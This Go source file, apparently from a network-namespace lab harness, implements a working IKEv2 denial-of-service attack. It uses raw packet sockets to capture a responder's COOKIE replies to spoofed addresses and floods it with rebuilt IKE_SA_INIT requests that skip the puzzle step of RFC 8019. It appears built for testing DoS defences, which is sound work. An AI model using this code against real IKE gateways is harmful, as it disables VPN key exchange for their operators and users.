package lab

import (
	"context"
	"encoding/binary"
	"errors"
	"net"

	"golang.org/x/sys/unix"
)

// Attackers that return their cookies, as a botnet can, and solve no puzzles (RFC 8019): they see what the
// victim answers to the addresses that they pretend to have, because it is routed to them.

const (
	ikePort      = 500
	ikeHeaderLen = 28
	notifyLen    = 8 // generic header, protocol, SPI size, type (RFC 7296, section 3.10)
)

// ReturnCookies repeats the requests of Spoof with the cookies that they are answered with, and without the
// solutions of puzzles, until ctx is done. It returns how many went out.
func (n *Netns) ReturnCookies(ctx context.Context, s Spoof) (sent uint64, err error) {
	return n.attack(s, func() (uint64, error) { return returnCookies(ctx, s) })
}

func returnCookies(ctx context.Context, s Spoof) (sent uint64, err error) {
	dev, err := net.InterfaceByName(s.Dev)
	if err != nil {
		return 0, err
	}
	mac, err := neighbour(s.To)
	if err != nil {
		return 0, err
	}
	template := spoofFrame(dev, mac, s.To)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(binary.NativeEndian.Uint16([]byte{unix.ETH_P_IP >> 8, unix.ETH_P_IP & 0xff})))
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	limit := unix.NsecToTimeval(50e6)
	if err := errors.Join(
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit),
		unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: dev.Index, Protocol: binary.NativeEndian.Uint16([]byte{unix.ETH_P_IP >> 8, unix.ETH_P_IP & 0xff})}),
	); err != nil {
		return 0, err
	}
	buf := make([]byte, 2048)
	for ctx.Err() == nil {
		n, from, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue // the time limit, or an interruption
		}
		if l, ok := from.(*unix.SockaddrLinklayer); ok && l.Pkttype == unix.PACKET_OUTGOING {
			continue
		}
		frame := s.withCookie(template, buf[:n])
		if frame == nil {
			continue
		}
		if _, err := unix.Write(fd, frame); err == nil { // a queue that is full: not sent
			sent++
		}
	}
	return sent, nil
}

// withCookie makes of the victim's answer the request that it wants; nil: it is no COOKIE for one of ours.
// template is a frame of spoof.
func (s Spoof) withCookie(template, answer []byte) []byte {
	const head = etherLen + ipv4Len + udpLen
	if len(answer) < head+ikeHeaderLen+notifyLen || answer[etherLen] != 0x45 || answer[etherLen+9] != unix.IPPROTO_UDP {
		return nil
	}
	ip, udp, ike := answer[etherLen:], answer[etherLen+ipv4Len:], answer[head:]
	if [4]byte(ip[12:]) != s.To.As4() || binary.BigEndian.Uint16(udp) != ikePort || binary.BigEndian.Uint16(udp[2:]) != ikePort ||
		ike[16] != 41 || ike[18] != 34 || binary.BigEndian.Uint16(ike[ikeHeaderLen+6:]) != 16390 {
		return nil
	}
	n := int(binary.BigEndian.Uint16(ike[ikeHeaderLen+2:]))
	if n < notifyLen || len(ike) < ikeHeaderLen+n {
		return nil
	}
	out := append([]byte(nil), template[:head+ikeHeaderLen]...)
	out = append(out, ike[ikeHeaderLen:ikeHeaderLen+n]...)
	out = append(out, template[head+ikeHeaderLen:]...)
	// The cookie first, what was first before after it.
	out[head+ikeHeaderLen], out[head+16] = template[head+16], 41
	copy(out[etherLen+12:], ip[16:20])
	copy(out[head:], ike[:8])
	_, _, _, nonce := spoofRequest()
	binary.BigEndian.PutUint64(out[head+n+nonce:], binary.BigEndian.Uint64(ike)-1) // as spoof numbers them
	binary.BigEndian.PutUint32(out[head+24:], uint32(len(out)-head))
	binary.BigEndian.PutUint16(out[etherLen+2:], uint16(len(out)-etherLen))
	binary.BigEndian.PutUint16(out[etherLen+ipv4Len+4:], uint16(len(out)-etherLen-ipv4Len))
	checksumIPv4(out[etherLen : etherLen+ipv4Len])
	return out
}
